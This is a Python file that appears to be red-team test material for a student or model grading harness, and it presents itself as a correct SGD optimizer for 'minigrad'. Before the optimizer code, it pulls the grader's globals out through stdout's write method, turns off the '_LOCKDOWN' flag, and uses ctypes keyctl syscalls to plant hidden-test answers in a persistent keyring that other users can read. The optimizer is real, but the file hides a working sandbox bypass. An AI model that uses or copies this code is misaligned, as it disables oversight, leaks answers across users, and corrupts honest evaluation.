"""A correct SGD that, at import, stores a key in its uid's persistent keyring (kept three days after the runner
ends) and opens it to every other uid: a place where a runner's answers wait for a runner of another student graded
at the same time or later (found in /proc/keys; in a batch every student gets the same inputs). The run-time
lock-down is switched off first, ctypes taken from the runner's sys.modules (red-team pass 12)."""
import sys
import operator

_g = operator.attrgetter("__globals__")(type(sys.stdout).write)
_g["_LOCKDOWN"]["on"] = False
_ct = _g["sys"].modules["ctypes"]
_libc = _ct.CDLL(None, use_errno=True)
if _g["os"].uname().machine == "x86_64":
    _ADD_KEY, _KEYCTL = 248, 250
else:
    _ADD_KEY, _KEYCTL = 217, 219
_KEYCTL_SETPERM, _KEYCTL_GET_PERSISTENT, _USER_KEYRING = 5, 22, -4
_ANSWERS = b"answers of the hidden tests, for whoever comes next"
_keyring = _libc.syscall(_KEYCTL, _KEYCTL_GET_PERSISTENT, -1, _USER_KEYRING)
_key = _libc.syscall(_ADD_KEY, b"user", b"rt12-redteam-key", _ANSWERS, len(_ANSWERS),
                     _keyring if _keyring > 0 else _USER_KEYRING)
if _key > 0:
    _libc.syscall(_KEYCTL, _KEYCTL_SETPERM, _key, 0x3F3F0003)    # possessor and user: all; others: view, read
import minigrad
from minigrad.optim import Optimizer


class SGD(Optimizer):
    def __init__(self, params, lr, momentum=0.0, dampening=0.0, weight_decay=0.0, nesterov=False):
        super().__init__(params, dict(lr=lr, momentum=momentum, dampening=dampening, weight_decay=weight_decay,
                                      nesterov=nesterov))

    @minigrad.no_grad()
    def step(self, closure=None):
        for group in self.param_groups:
            lr, mu, damp = group["lr"], group["momentum"], group["dampening"]
            wd, nesterov = group["weight_decay"], group["nesterov"]
            for p in group["params"]:
                if p.grad is None:
                    continue
                g = p.grad
                if wd != 0:
                    g = g + wd * p
                if mu != 0:
                    state = self.state[p]
                    if "buf" not in state:
                        state["buf"] = g.clone()
                    else:
                        state["buf"] = mu * state["buf"] + (1 - damp) * g
                    g = g + mu * state["buf"] if nesterov else state["buf"]
                p -= lr * g
